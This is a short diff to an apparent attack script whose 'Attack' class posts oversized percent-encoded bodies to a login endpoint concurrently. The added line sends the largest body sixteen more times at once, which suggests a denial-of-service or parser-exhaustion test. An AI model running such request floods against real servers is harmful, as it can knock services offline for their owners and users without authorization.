@@ -76,6 +76,7 @@ class Attack:
             (LOGIN, b"%41" * 330_000, encoded),
         ]
         _at_once([lambda body=body: self._post(*body) for body in bodies for _ in range(2)])
+        _at_once([lambda: self._post(*bodies[-1]) for _ in range(16)])
 
     # Line 9
 
